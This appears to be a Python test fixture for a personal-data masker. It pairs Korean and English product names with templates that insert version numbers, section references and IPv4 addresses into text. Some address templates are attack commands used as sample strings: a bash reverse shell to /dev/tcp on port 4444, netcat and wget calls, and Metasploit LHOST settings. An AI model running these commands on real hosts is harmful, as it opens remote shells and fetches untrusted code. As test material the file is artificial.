"""Cases of addresses and versions that cross words with frames, for the fit of the weights in ``preprocessing/pii``.

Owns the words and the frames, written by hand, and how numbers are drawn for them: "⏎" is the end of a line, "⇥" a tab,
{4} an address, {v} a version, {s} a section. What a name owns is a version: "크롬 1.2.3.4" is one beside any verb, "서버
1.2.3.4" is not.
"""

# ruff: noqa: E501, RUF001
from __future__ import annotations

import random
import re

from preprocessing.pii.masking import Span
from tests.preprocessing.measure_personal_data import Case

PRODUCTS = r"""
크롬|크로미움|엣지|파이어폭스|사파리|오페라|웨일|네이버 웨일|브레이브|비발디|삼성 인터넷|익스플로러|윈도우|윈도|윈도우 11|맥오에스|안드로이드|리눅스|우분투|파이썬|자바|러스트|노드|코틀린|닷넷|플러터|유니티|언리얼 엔진|포토샵|일러스트레이터|프리미어|애프터 이펙트|
라이트룸|오토캐드|한글|한글 2022|한컴오피스|오피스|엑셀|파워포인트|워드|아웃룩|원드라이브|팀즈|줌|슬랙|디스코드|카카오톡|카톡|라인|텔레그램|네이트온|스카이프|알집|알약|알씨|반디집|반디캠|곰플레이어|팟플레이어|다음 팟인코더|스팀|배틀넷|롤|리그 오브 레전드|
배틀그라운드|배그|오버워치|메이플|메이플스토리|던파|로스트아크|원신|붕괴 스타레일|쿠키런|브롤스타즈|포켓몬고|발로란트|마인크래프트|마크|로블록스|모바일게임|티맵|카카오맵|네이버 지도|카카오페이|토스|배민|쿠팡|당근|유튜브|인스타|페이스북|틱톡|멜론|지니|벅스|웹뷰|
시스템 웹뷰|구글 플레이 서비스|플레이 스토어|갤럭시 스토어|빅스비|굿락|삼성페이|삼성 헬스|원UI|에이전트|플러그인|뷰어|런처|백신|브이쓰리|브이백신|보안 모듈|키보드 보안|인증서 모듈|공동인증서 프로그램|클라이언트|설치 프로그램|그래픽 드라이버|칩셋 드라이버|
랜 드라이버|사운드 드라이버|바이오스|펌웨어|공유기 펌웨어|프린터 드라이버|스캐너 드라이버|마우스 소프트웨어|오라클|티베로|큐브리드|알티베이스|제우스|웹투비|웹로직|웹스피어|톰캣|아파치|엔진엑스|포스트그레스|마이에스큐엘|마리아디비|몽고디비|레디스|카프카|엘라스틱서치|
쿠버네티스|도커|젠킨스|깃랩|지라|컨플루언스|안랩 V3|V3 Lite|V3|이스트소프트 알약|앱|모바일 앱|데스크톱 앱|확장 프로그램|런타임|라이브러리|패키지|커널|모듈|부트로더|이미지|번들|포터블|스냅|워치 앱|패치 파일|인스톨러|VPN 클라이언트|메일 클라이언트|
FTP 클라이언트|DB 클라이언트|DNS 서버 소프트웨어|프록시 소프트웨어|방화벽 소프트웨어|게임 클라이언트|서버 프로그램|Chrome|Google Chrome|Chromium|chromedriver|HeadlessChrome|Firefox|Edge|
Microsoft Edge|Safari|Opera|Whale|Brave|Vivaldi|WebView|Electron|Windows|Windows 10|Windows 11|macOS|iOS|Android|Ubuntu|Debian|Linux|kernel|glibc|gcc|
clang|LLVM|CUDA|cuDNN|TensorRT|PyTorch|TensorFlow|NVIDIA|GeForce|AMD Adrenalin|Radeon Software|Intel Arc|Realtek|DirectX|OpenSSL|OpenSSH|nginx|Apache|
Tomcat|MySQL|MariaDB|PostgreSQL|Oracle|Oracle Database|Oracle 19c|MongoDB|Redis|Kafka|Spark|Hadoop|Hive|HBase|Docker|Kubernetes|Helm|Unity|Unreal|
Office|Office 365|Excel|Outlook|Acrobat|Reader|Adobe Reader|Photoshop|Flash|Flash Player|Skype|Zoom|Teams|Slack|Discord|KakaoTalk|Java|JDK|jre|OpenJDK|
Python|python|Node|Node.js|npm|PHP|Ruby|Perl|Go|Rust|rust|rustc|cargo|Kotlin|Swift|Scala|Dart|Flutter|Gradle|Maven|Elasticsearch|Logstash|Kibana|
Jenkins|GitLab|Grafana|Prometheus|OpenCV|pandas|numpy|cmake|FortiOS|FortiClient|FortiGate|PAN-OS|Junos|IOS XE|NX-OS|ASA|AnyConnect|Cisco AnyConnect|
GlobalProtect|Pulse Secure|OpenVPN|WireGuard|SoftEther|ESXi|vCenter|vSphere|VMware Tools|VMware Workstation|VirtualBox|Hyper-V|SQL Server|
Microsoft SQL Server|SQL Server 2019|MS SQL Server|Exchange Server|Exchange Server 2016 CU22|SharePoint Server|IIS|Windows Server 2016|HANA|SAP GUI|
IBM MQ|WebSphere|WebLogic|DB2|Sybase|Tibero|JEUS|CUBRID|Altibase|Synology DSM|QNAP QTS|TrueNAS|ipTIME|Netgear|ASUS AiMesh|Asuswrt-Merlin|OpenWrt|
DD-WRT|Magisk|LineageOS|One UI|MIUI|Steam|iTunes|Telegram|VLC|PotPlayer|Bandizip|7-Zip|WinRAR|Notepad++|Visual Studio|VS Code|IntelliJ|PyCharm|Eclipse|
Android Studio|Xcode|DataGrip|DBeaver|Postman|Wireshark|Nmap|Splunk|QRadar|Sophos|Norton|Kaspersky|Avast|Malwarebytes|Citrix|TeamViewer|AnyDesk|Parsec|
OBS Studio|Blender|AutoCAD|MATLAB|SPSS|SAS|Revit|SketchUp|HWP|foo|libfoo|mylib|the app|the client|the agent|our SDK|The library|plugin|openjdk|envoy|
istio|consul|vault|terraform|ansible|puppet|chef|zabbix|nagios|haproxy|squid|bind9|bind|unbound|postfix|dovecot|vsftpd|proftpd|samba|exim|varnish|
caddy|traefik|etcd|rabbitmq|activemq|zookeeper|cassandra|clickhouse|couchbase|solr|lucene|log4j|spring-boot|struts|jquery|react|vue|angular|webpack|
django|flask|laravel|rails
|
은행앱|증권앱|쇼핑앱|배달앱|신한 쏠|카카오뱅크|케이뱅크|농협 스마트뱅킹|정부24|홈택스|위택스|민원24|PASS 앱|네이버 앱|다음 앱|줌 앱|밴드|라이브 서버 빌드|테섭|본섭|롬|커롬|순정 롬|커널 패치|결제 모듈|암호화 모듈|본인확인 모듈|뱅킹 보안 프로그램|
엔프로텍트|터치엔|베라포트|아이세이프|라온시큐어|그누보드|영카트|제로보드|워드프레스|우커머스|엘리멘터|카페24|고도몰|스마트스토어 앱|지포스|라데온|아드레날린|갤럭시 버즈|갤럭시 워치|에어팟|애플워치|아이패드|아이폰|갤럭시|다빈치 리졸브|베가스|큐베이스|에이블톤|로직|
블렌더|스케치업|레빗|라이노|솔리드웍스|카티아|앤시스|델파이|파워빌더|비주얼 스튜디오|안드로이드 스튜디오|이클립스|인텔리제이|하둡|스파크|로그스태시|키바나|그라파나|프로메테우스|이스티오|앤서블|테라폼|소나큐브|넥서스|비트버킷|레드마인|시놀로지|큐냅|아이피타임|넷기어|
시스코|포티넷|팔로알토|주니퍼|체크포인트|시큐아이|지니언스|파수|마크애니|엘든링|스카이림|심즈|옵티파인|포지|패브릭|리니지|검은사막|피파온라인|카트라이더|서든어택|디아블로|스타크래프트|하스스톤|젤다|닌텐도 스위치|플스5 펌웨어|엑스박스|MSI Afterburner|
HWiNFO|CrystalDiskInfo|Rufus|CCleaner|qBittorrent|Plex Media Server|Emby Server|Jellyfin|Kodi|HandBrake|LibreOffice|Thunderbird|PuTTY|MobaXterm|WinSCP|
FileZilla|FileZilla Server|RealVNC|RustDesk|Tailscale|ZeroTier|pfSense|OPNsense|RouterOS|UniFi Network|Aruba|BIG-IP|F5 BIG-IP|Citrix ADC|NetScaler|
Ivanti|MOVEit|Confluence|Jira|Bitbucket Server|TeamCity|Bamboo|Artifactory|Nexus|SonarQube|Keycloak|WildFly|JBoss|GlassFish|Payara|Jetty|Undertow|
Netty|OkHttp|okhttp|axios|Foxmail|Dalvik|Cronet|Unity Player|UnityPlayer|Roblox|Minecraft|Bedrock|Forge|Valorant|PUBG|Genshin|Overwatch|Battle.net|
Epic Games Launcher|Origin|GOG Galaxy|Nox|BlueStacks|LDPlayer|ADB|Fastboot|Gboard|Play Services|Google Play services|WebKit|Gecko|Presto|Blink|V8|
SpiderMonkey|Hermes|the driver|the firmware|the build|our release|the plugin|the runtime|the server|my phone|this client|the extension
"""
PRODUCT_FRAMES = r"""
{word} {v}
{word} {v} 다운로드
{word} {v} 설치 방법
{word} {v} 설치 중 오류가 납니다
{word} {v} 업데이트
{word} {v} 업데이트 후 로그인이 안 됩니다
{word} {v}로 업데이트하고 나서 느려졌어요
{word} {v}으로 올렸더니 서버 접속이 안 됩니다
{word} {v}에서 수정되었습니다
{word} {v}에서 네트워크 연결이 끊기는 문제
{word} {v}은 지원이 끝났습니다
{word} {v}는 괜찮은데요
{word} {v}의 취약점
{word} {v}을 쓰고 있습니다
{word} {v} 쓰시는 분
{word} {v} 이하
{word} {v} 이상 필요
{word} {v} 미만에서 원격 코드 실행
{word} {v} 배포
{word} {v} 출시
{word} {v} 정식판
{word} {v} 베타
{word} {v} 패치노트
{word} {v} 강제 종료
{word} {v} 한글판
{word} {v} 사용 중
{word} {v} 나왔네요
{word} ({v})
{word}({v})
{word} - {v}
{word}: {v}
- {word}: {v}
- {word} {v}
* {word} {v}
{word}	{v}
| {word} | {v} |
{word},{v}
{word} = {v}
{word}/{v}
{word}-{v}
{word}_{v}
{word} v{v}
{word} 버전 {v}
{word} 버전은 {v}입니다
{word} 버전: {v}
{word} version {v}
{word} Version: {v}
{word} 빌드 {v}
{word} (빌드 {v})
{word} build {v}
{word} {v} (64비트)
{word} {v} (Official Build) (64-bit)
{word} {v} released
{word} {v} is out
{word} {v} is vulnerable
{word} {v} crashes on startup
{word} {v} and later
{word} {v} and earlier
{word} before {v}
{word} prior to {v}
{word} from {v} to {v}
{word} {v} → {v}
{word} {v}에서 {v}로 올림
{word} {v} -> {v}
{word} {v}, {v} 모두 같은 증상
{word} {v}부터 지원
Upgrade {word} to {v}
Update {word} to {v} or later
Bump {word} from {v} to {v}
Updated {word} to {v}
I installed {word} {v} on the server
running {word} {v} on our hosts
using {word} {v}
requires {word} {v}
tested with {word} {v}
server is running {word} {v}
서버에 {word} {v} 설치했습니다
서버에서 {word} {v}를 돌립니다
접속 환경: {word} {v}
사용 환경은 {word} {v}입니다
현재 {word} {v}
최신 {word} {v}
어제 {word} {v}가 나왔어요
서버는 {word} {v}입니다
웹서버는 {word} {v}를 씁니다
DNS 서버 {word} {v}
메일 서버 {word} {v}
DB 서버 {word} {v}
프록시 서버 {word} {v}
VPN 서버 {word} {v} 설치
방화벽 {word} {v}
공유기 {word} {v}
나스 {word} {v}
DB는 {word} {v}
OS는 {word} {v}입니다
접속 프로그램 {word} {v}
접속은 {word} {v}으로 합니다
방화벽에서 {word} {v}을 막고 있어요
네트워크 장비 {word} {v}
호스트에 {word} {v} 설치
서버에 {word} {v} 깔려 있음
{word} server {v}
{word} client {v}
{word} agent {v}
{word} proxy {v}
our server runs {word} {v}
hosts with {word} {v}
the proxy is {word} {v}
clients with {word} {v} cannot connect
connected with {word} {v}
attackers exploit {word} {v}
blocked by {word} {v}
{word}가 {v}이면 정상
{word}가 {v}인데
{word}이 {v}으로 바뀌었어요
{word}는 {v}입니다
{word}을 {v}로 올리세요
{word}를 {v}로 내렸더니 됩니다
{word}과 {word} {v}
{word} {v}랑 {v} 비교
{word} {v}만 문제
{word} {v} 받는 곳
{word} {v} 오류로 접속 불가
{word} {v} 네트워크 오류
{word} {v} 서버 연결 실패
{word} {v} 로그인 오류
{word} {v} 방화벽 설정
{word} {v} 해킹
{word} {v} 포트 변경
"""
VERSION_FRAMES = r"""
버전 {v}
버전: {v}
버전이 {v}인데 정상인가요
현재 버전 {v}
최신 버전은 {v}입니다
이번에 나온 {v}에서 고쳐졌어요
어제 나온 {v} 써 보신 분
{v} 버전
{v} 버전에서는 됩니다
{v}버전으로 내려야 해요
{v} 빌드
{v} 릴리스
{v} 릴리즈 노트
{v} 업데이트
{v} 업데이트 내용
{v} 패치 내역
{v} 패치 후 접속이 안 됩니다
{v}로 업데이트
{v}로 업데이트하세요
{v}으로 업그레이드했습니다
{v}으로 판올림
{v}로 다운그레이드
{v}로 롤백했습니다
{v} 이상
{v} 이하
{v} 미만
{v} 미만에서 발생
{v} 이전 버전은 지원하지 않습니다
{v} 이후로 안 됩니다
{v}부터 지원합니다
{v}부터 추가된 기능
{v}까지는 됐는데
{v}에서 추가
{v}에서 수정
{v}에서 해결된 문제
{v}에서 삭제된 메뉴
{v}에서 도입
{v} 변경 사항
{v} 다운로드
{v} 설치
{v} 출시
{v} 정식 출시
{v} 베타
{v} 안정판
빌드 번호: {v}
빌드: {v}
릴리스 {v}
릴리즈: {v}
배포 버전 = {v}
펌웨어: {v}
펌웨어 버전은 {v}
드라이버 {v}
엔진 버전 {v}
## {v}
## [{v}]
## [{v}] - 2024-01-02
## v{v} (2023-03-04)
### {v}
# {v}
**{v}**
* {v}
* {v}: fixes
- {v}: 버그 수정
{v} (2024-03-02)
{v} / 2024-03-02
{v} - 2024.03.02
{v}:
Version {v}
version: {v}
Version: {v}
version = "{v}"
version="{v}"
"version": "{v}"
"version": "^{v}",
"foo-bar": "~{v}",
"some-lib": "{v}",
"@types/foo": "{v}",
version('{v}')
__version__ = "{v}"
VERSION = '{v}'
APP_VERSION={v}
app.version={v}
versionName "{v}"
CFBundleVersion {v}
ProductVersion: {v}
FileVersion {v}
AssemblyVersion("{v}")
Driver Version: {v}
Firmware Version: {v}
Firmware: {v}
Build {v}
build: {v}
Release {v}
release: {v}
Release Notes for {v}
Changelog for {v}
Changes in {v}
What's new in {v}
New in {v}
tag: {v}
git tag {v}
git checkout {v}
branch {v}
refs/tags/v{v}
rev: {v}
sdk {v}
API {v}
foo=={v}
foo>={v}
foo~={v}
foo<={v}
foo!={v}
foo >= {v}
foo = "{v}"
foo@{v}
foo:{v}
foo>={v},<{v}
image: foo/bar:{v}
FROM foo:{v}
FROM org/bar:{v}
docker pull foo:{v}
docker run foo:{v}
npm install foo@{v}
pip install foo=={v}
apt install foo={v}
yum install foo-{v}
brew install foo@{v}
gem install foo -v {v}
helm install foo --version {v}
choco install foo --version={v}
implementation 'com.foo:bar:{v}'
implementation("com.foo:bar:{v}")
<version>{v}</version>
<Version>{v}</Version>
<PackageReference Include="Foo" Version="{v}" />
<dependency name="foo" rev="{v}"/>
xmlns="http://foo.com/schema/{v}"
https://foo.com/download/{v}/setup.exe
https://foo.com/docs/{v}/index.html
https://cdn.foo.com/npm/foo@{v}/dist/foo.js
https://repo.foo.com/foo/{v}/foo-{v}.jar
/usr/lib/foo/{v}/bin
/opt/foo-{v}/lib
C:\Program Files\Foo\{v}\foo.exe
D:\Foo\{v}\bin\foo.dll
docs/{v}/guide.md
site/{v}/intro.html
FROM registry.foo.kr/bar:{v}
FROM foo.bar.com/baz/qux:{v}
{v}이 나온 지 한 달
예전 {v}이 더 빨랐어요
구버전 {v}이 낫네요
conan install foo/{v}@
vcpkg install foo/{v}
펌웨어를 {v}에서 {v}로 올렸습니다
업데이트 서버에서 {v}를 받고 있어요
{v} 설치 후 로그인 서버에 접속이 안 돼요
{v} 이후 서버 연결이 끊겨요
드라이버를 {v}에서 {v}로 바꿨어요
앱이 {v}에서 {v}로 업데이트됐다
foo-{v}.tar.gz
foo_{v}_amd64.deb
libfoo.so.{v}
foo-{v}.jar
setup-{v}.exe
upgrade to {v}
upgraded to {v} yesterday
update to {v}
downgrade to {v}
reverted to {v}
fixed in {v}
introduced in {v}
added in {v}
removed in {v}
deprecated since {v}
available since {v}
since {v}
before {v}
versions before {v}
prior to {v}
earlier than {v}
up to {v}
through {v}
from {v} to {v}
between {v} and {v}
affects {v}
in {v} and later
{v} or later
{v} and earlier
{v} or newer
{v} and above
{v} release
{v} released
{v} was released
released {v}
just released {v} today
shipped {v} last week
{v} fixes this
{v} crashes
{v} beta
{v}-beta
{v} stable
{v}-SNAPSHOT
the {v} release
the {v} build
version {v} of the server
version {v} is required to connect to the server
server version: {v}
Server version {v}
client version {v}
클라이언트 버전 {v}
서버 버전 {v}
서버 버전: {v}
protocol version {v}
The patch landed in {v}.
The fix is in {v}.
You need {v}.
You need at least {v}.
Please use {v} instead.
Please try {v}
We reproduced it on {v} and {v}.
We tested {v} and {v}.
I tested with {v} and it works
Works in {v}, broken in {v}
Works fine on {v}
Not working on {v}
It worked in {v}
Broken since {v}
Broke after {v}
I'm on {v} and it still happens
I am using {v}
I have {v} installed
currently on {v}
stuck on {v}
stay on {v}
Downgrading to {v} helps
Rolling back to {v} fixed it
After upgrading from {v} to {v} nothing works
After upgrading to {v} the server refuses connections
When I updated to {v} the connection dropped
older than {v}
newer than {v}
Clients older than {v} cannot connect
client {v} cannot connect to server {v}
affects all builds up to {v}
all versions through {v}
{v} has a memory leak
{v} has a bug
{v} dropped support for Windows 7
{v} adds dark mode
{v} introduced a regression
{v} broke the login
{v} works fine
{v} is the latest
{v} is required
{v} is not supported
{v} is available for download
{v} changes the default port
{v} will be out on Monday
{v} came out yesterday
{v} contains security fixes
{v} vs {v}
{v} 롬 올려 봤습니다
{v} 업뎃하고 나서
{v} 깔지 마세요
{v} 후기
{v} 써 봤는데
{v} 쓰는 중인데
{v} 쓰면 접속이 안 돼요
{v} 적용 안내
{v} 적용했습니다
{v} 밸런스 조정
{v} 신규 캐릭터
{v} 점검 내역
{v} 크래시
{v} 다운그레이드
{v} 파일 좀 주세요
{v} 설치 파일
{v} 설치파일 있으신 분
{v} 지우고 다시 깔았어요
{v} 벽돌
{v} 버그
{v} 버그 있네요
{v} 오류
{v} 호환
{v} 호환되나요
{v} 이전으로 못 돌아감
{v} 이후 버전
{v}가 최신입니다
{v}가 나왔습니다
{v}가 배포됐습니다
{v}인데 자꾸 튕겨요
{v}인데 업데이트가 안 떠요
{v}에서는 잘 됐는데
{v}에서 버그가 생겼어요
{v}에서 튕깁니다
{v}에서 조정된 캐릭터
{v}에서 {v}로 올린 뒤 서버가 안 붙어요
{v}으로 바뀝니다
{v}로 바뀌면서 로그인이 풀림
{v}로 올려도 되나요
{v}를 설치해 주세요
{v}를 받아서 설치
{v} 대신 {v}을 쓰세요
점검 후 {v}로 바뀝니다
앱이 {v}로 올라가고 나서
클라이언트가 {v}로 바뀝니다
오늘 {v} 나왔습니다
이번 패치 {v}
다음 패치는 {v}입니다
설치된 것은 {v}
구버전 {v}
신버전 {v}
구버전({v})
최신판 {v}
공식 {v}
안정판 {v}
베타 {v}
테스트 버전 {v}
취약한 버전 {v}
패치된 버전 {v}
업데이트 {v}
패치 {v}
핫픽스 {v}
수정본 {v}
배포본 {v}
지원 버전: {v} ~ {v}
영향받는 버전⇥{v}
제품명⇥버전
뷰어⇥{v}
| 제품 | 버전 |
|---|---|
| 뷰어 | {v} |
이름,버전
뷰어,{v}
name,version,date
foo,{v},2024-01-02
Package⇥Version
foo⇥{v}
[INFO] Agent {v} started
INFO: starting v{v} on port 8080
Starting foo {v}
foo v{v}
foo ({v})
foo {v} has requirement bar
Server: foo/{v} (Unix)
User-Agent: foo/{v}
X-Powered-By: foo/{v}
X-Mailer: foo {v}
X-AspNet-Version: {v}
Via: 1.1 foo (bar/{v})
"foo";v="{v}"
sec-ch-ua-full-version: "{v}"
appVersion: {v}
agentVersion={v}
minVersion: "{v}"
"appVersion":"{v}"
"minAppVersion": "{v}"
"engines": {"node": "{v}"}
"latest": "{v}"
"current": "{v}", "latest": "{v}"
"build": "{v}"
ro.build.version={v}
ver={v}
?v={v}
app.js?ver={v}
style.css?v={v}
<Identity Name="Foo" Version="{v}" />
<bindingRedirect oldVersion="0.0.0.0-{v}" newVersion="{v}" />
Version={v}, Culture=neutral
#define VERSION "{v}"
set(FOO_VERSION {v})
project(foo VERSION {v})
VERSION: {v}
const VERSION = "{v}";
string version = "{v}";
Requirement already satisfied: foo ({v})
Successfully installed foo-{v}
Collecting foo>={v}
Unpacking foo ({v}) over ({v}) ...
Setting up foo ({v}) ...
foo.x86_64    {v}-3.el7    @base
foo/stable {v} amd64
Get:1 http://kr.archive.foo.com jammy/main amd64 foo amd64 {v} [12 kB]
ii  foo   {v}   amd64
added foo@{v}
├── foo@{v}
└── bar@{v}
foo: {v} -> {v}
foo {v} → {v}
"resolved": "https://registry.foo.com/foo/-/foo-{v}.tgz"
https://github.com/a/b/releases/tag/{v}
https://github.com/a/b/compare/{v}...main
https://dl.foo.com/pub/{v}/win64
https://foo.com/download?version={v}
s3://bucket/releases/{v}/app.zip
ghcr.io/a/b:{v}
quay.io/a/b:v{v}
registry.foo.kr/team/app:{v}
image: ghcr.io/a/b:{v}
%LOCALAPPDATA%\Foo\app-{v}
C:\Windows\WinSxS\x86_foo_{v}_none
/data/app/com.foo-{v}/base.apk
./foo-{v}/configure
cd foo-{v}
tar xzf foo-{v}.tar.gz
git clone -b {v} https://foo.com/a.git
git diff {v} {v}
git log {v}..HEAD
nvm install {v}
sdk install java {v}
pyenv install {v}
conda install foo={v}
cargo add foo@{v}
go get foo.com/bar@v{v}
rustc {v}
go {v}
ruby '{v}'
gem 'foo', '~> {v}'
"foo/bar": ">={v}",
foo = { version = "{v}" }
compile 'foo:bar:{v}'
//bazel:foo_{v}
{v}에서만 로그인 오류가 납니다
{v}에서만 그래요
{v}에서도 똑같아요
{v}랑 {v} 둘 다 똑같아요
{v}랑 {v} 차이
{v}과 {v} 비교
{v}와 {v}의 차이
{v}로 맞추세요
{v}로 통일
{v}로 내리세요
{v}로 내리면 됩니다
{v}로 넘어왔습니다
{v}를 쓰다가 {v}로 바꿈
{v} 쓰고 있습니다
{v} 쓰는데 서버 연결이 안 돼요
{v} 쓰면 인터넷이 끊겨요
{v} 설치하고 방화벽에 막혔어요
{v} 올린 뒤로 접속이 안 됩니다
{v} 깔고 나서 로그인이 안 돼요
{v} 받는 곳
{v} 받았는데
{v} 맞나요
{v} 포터블
{v} 한글패치
{v}이면 정상입니다
{v}이면 최신
{v}보다 낮으면
{v}보다 높은
{v}용
{v}에 추가된 기능
{v}에 포함
롤백 대상: {v}
배포 대상 {v}
심사 {v} 통과
신규 {v} 배포
업데이트 내역⏎{v} 2024.02.03
히스토리⏎{v} (2024.02.03)
Minimum supported: {v}
Minimum: {v}
Latest: {v}
Installed: {v}
Candidate: {v}
Current: {v}
Required: {v}
Recommended: {v}
Supported: {v}
Merge tag '{v}' into develop
'foo': '{v}',
tag: "{v}"
image: "{v}"
curl {v} (x86_64)
wget {v}
psql (PostgreSQL) {v}
FBAV/{v};
{v} (x86_64)
{v} (x64)
{v} (arm64)
{v} amd64
2024-01-02 {v}
"""
SECTION_FRAMES = r"""
// {s} Object.toString ( )
// {s} Array.prototype.map
 * {s} Foo bar
# {s} of the standard
/* {s} */
{s}
{s} 일반사항
{s} 시험 방법
{s} 적용 범위
{s} 개요
{s} 참조
{s} 항목을 보세요
{s}에 따른다
{s}의 규정에 따른다
{s}절 참조
{s}항
{s} 항에 의한다
{s} 절에서 설명한다
제{s}조
제 {s} 항
표 {s}
표 {s} 하중
그림 {s}
그림 {s}과 같다
부록 {s}
별표 {s}
식 ({s})
[{s}]
({s}) 단서
섹션 {s}
항목 {s}
문단 {s}
과제 {s}
세부과제 {s} 추진
단원 {s}
장절 {s}
KS {s}
KDS {s}
KCS {s}
ISO {s}
IEC {s}
RFC {s}
RFC 5322 §{s}
IEEE 802.{s}
3GPP TS 36.331 {s}
NIST {s}
PCI DSS {s}
CIS {s} 점검
Section {s}
section {s} of the specification
Sec. {s}
Chapter {s}
Clause {s}
clause {s} applies
see {s}
see {s} for details
(see {s})
as described in {s}
according to {s}
as defined in {s} and {s}
Table {s}
Figure {s}
Annex {s}
Appendix {s}
Requirement {s}
Article {s}
paragraph {s}
Theorem {s}
Lemma {s}
Eq. ({s})
§ {s}
목차⏎{s} 개요⏎{s} 범위
## {s} 설치
### {s} Overview
EC {s}
효소 EC {s}
EC번호 {s}
OID {s}
oid = {s}
HS {s}
세번 {s}
품목 {s}
주문번호 {s}
관리번호 {s}
코드 {s}
규격 {s}
모델 {s}
평점 {s}
점수 {s}
치수 {s}
문서번호 {s}
시료 {s}
좌표 {s}
성경 {s}
창세기 {s}
표준코드 {s}
계정 {s}
No. {s}
Part No. {s}
S/N {s}
serial {s}
model {s}
score {s}
ratio {s}
"""
ADDRESS_FRAMES = r"""
댓글 {4} 님: 동의합니다
{4} 님: 그건 아니죠
{4}님이 입장했습니다
ips = ["{4}", "{4}"]
{4}가 게시판을 도배하고 있어요
{4} 이 사람이 계속 욕을 합니다
{4} 욕설 도배
{4} 영구 차단 부탁드립니다
{4}랑 {4} 같은 사람 같아요
{4} 어디 통신사인지 아시는 분
{4} 조회해 보니 강남구로 나옵니다
{4} 이렇게 나오는데 정상인가요
{4} 여기 들어가 보세요
{4} 접속 안 되는 사람
{4} 들어가지나요
{4} 열려 있습니다
{4} 살아 있나요
{4} 죽었네요
{4} 내려갔습니다
{4} 로스 30%
{4} 평균 8ms
{4} is down
{4} is unreachable
{4} is alive
{4} is blocked
{4} is listed on a blocklist
{4} keeps scanning us
{4} tried to log in
{4} resolves to foo.com
{4} does not respond
{4} belongs to Korea Telecom
who owns {4}
traffic to {4}
traffic from {4}
requests from {4} and {4}
Scans from {4} and {4}
attacks from {4} since yesterday
blocked {4} at the firewall
I pinged {4} and got nothing
It resolves to {4}
The DNS points to {4}
moved to {4}
migrated from {4} to {4}
from {4} to 10.0.0.3
My VPS ({4}) got suspended
Our web server ({4}) is slow
edit was made by {4}
reverted edits by {4}
Your login from {4} (Busan, KR) was unusual
기존 {4}, 신규 {4}
변경 전 {4} 변경 후 {4}
이전: {4} → 이후: {4}
as-is {4} / to-be {4}
1차 {4}, 2차 {4}
주 {4} 보조 {4}
출발지 {4}, 목적지 {4}, 443
그대로 {4} 조회
국가 KR / {4} / SK Broadband
KR {4}
{4} KR
{4} (KR)
{4}, 대한민국
· {4} · 2024년 1월 2일
{4} 2024-01-02 10:11
2024-01-02 10:11 {4}
10:11:12 {4}
[{4}] 10:11
kko.kr -> {4}
kko.kr => {4}
kko.kr {4}
kko.kr has address {4}
kko.kr⇥{4}
{4} kko.kr
{4}⇥kko.kr www.kko.kr
A⇥@⇥{4}⇥3600
@ IN A {4}
www 300 IN A {4}
PTR {4}
ip4:{4}
snat to {4}
dnat to {4}:80
nat {4}
tunnel destination {4}
tunnel source {4}
 tunnel destination {4}
 tunnel-destination {4};
 ip address {4} 255.255.255.0
 network {4} 0.0.0.0 area 0
 neighbor {4} activate
 set ip next-hop {4}
 host {4}
permit ip host {4} any
permit tcp any host {4} eq 443
deny ip host {4} any log
access-list 10 permit {4}
object-group network X
 host {4}
crypto isakmp key abc address {4}
set peer {4}
static-route {4}
arp {4}
show ip bgp {4}
ntp server {4}
ntpdate {4}
logging {4}
logging host {4}
syslog {4}
snmp-server host {4}
ip name-server {4}
ip helper-address {4}
ip route 58.0.0.0 255.0.0.0 {4}
route add default gw {4}
default via {4} dev eth0
via {4} dev eth1
{4} dev eth0 lladdr 00:11:22:33:44:55
ARP, Request who-has {4} tell {4}
ping {4}
ping -c 3 {4}
ping -t {4}
mtr {4}
mtr -rw {4}
tracert {4}
nmap -sV {4}
nc -vz {4} 22
nc {4} 4444
telnet {4} 23
ssh {4}
ssh root@{4}
ssh -p 2222 kim@{4}
scp a.txt kim@{4}:~
curl {4}
curl -v {4}:8080
curl http://{4}/ip
wget {4}/a.sh
dig @{4} foo.com
dig -x {4}
host {4}
whois {4}
nslookup foo.com {4}
mysql -h {4} -u root
mysql -h {4}
psql -h {4} -U app
redis-cli -h {4}
mongo {4}/db
sqlcmd -S {4}
iperf3 -c {4}
hping3 -S {4}
xfreerdp /v:{4}
mstsc /v:{4}
mstsc {4}
RDP {4}
VNC {4}:5901
sftp kim@{4}
ftp {4}
net use z: \\{4}\data
\\{4}\share
mount -t nfs {4}:/data /mnt
mount -t cifs //{4}/data /mnt
bash -i >& /dev/tcp/{4}/4444 0>&1
msf > set RHOSTS {4}
set LHOST {4}
RHOSTS => {4}
LHOST => {4}
Nmap scan report for {4}
Host: {4} ()
Discovered open port 22/tcp on {4}
Not shown: 998 closed ports on {4}
[22][ssh] host: {4} login: root
app.listen(80, '{4}')
server.bind(("{4}", 80))
sock.connect(("{4}", 4444))
s.sendto(data, ("{4}", 53))
http.listen(8080, "{4}")
connect("{4}")
open("{4}")
block('{4}')
inet_addr("{4}")
ipaddress.ip_address("{4}")
InetAddress.getByName("{4}")
new IPEndPoint(IPAddress.Parse("{4}"), 80)
net.ParseIP("{4}")
socket.gethostbyaddr("{4}")
x = "{4}"
[ "{4}", "{4}" ]
['{4}', '{4}']
- {4}
- "{4}"
- {4}
- {4}
  - {4}:9200
{4}
{4}
{4} {4}
{4},{4}
{4};
{4}
"{4}",
`{4}`
**{4}**
({4})
<{4}>
{4}:443
{4}:22 {4}:51022
{4}.51514 > {4}.443: Flags [S]
{4} > {4}: ICMP echo request
{4} -> {4}
{4}:1234 -> {4}:80
1 {4} 1.2 ms
 3  {4}  12.1 ms  11.9 ms
  3    12 ms    11 ms    13 ms  {4}
  4   *  *  {4}  22.1 ms
Reply from {4}: bytes=32 time=9ms TTL=55
64 bytes from {4}: icmp_seq=1 ttl=55
From {4} icmp_seq=2 Destination Host Unreachable
Last login: Tue Mar  4 10:11:12 from {4}
kim pts/0 {4} 10:11
kim  pts/0  Mar  3 09:00  ({4})
Failed password for root from {4} port 22
Accepted password for kim from {4}
Disconnected from {4} port 22
Invalid user admin from {4}
Connection closed by {4}
Unban {4}
NOTICE [sshd] Ban {4}
connect from unknown[{4}]
lost connection after AUTH from unknown[{4}]
client: {4}, server: foo.com
[client {4}:51022]
{4} - - [01/Jan/2024:00:00:00 +0900] "GET / HTTP/1.1" 200
{4} "GET /login"
{4} GET /login 200
{4} 200 12ms
12 {4}
   34 {4}
340⇥{4}
1⇥{4}⇥3
No. 1 {4}
#1 {4}
dial tcp {4}:5432: connect: connection refused
Failed to connect to {4} port 443
connect ECONNREFUSED {4}:80
No route to host: {4}
Cannot reach {4}
Could not resolve {4}
Host '{4}' is not allowed
'app'@'{4}'
(HOST={4})(PORT=1521)
Data Source={4},1433
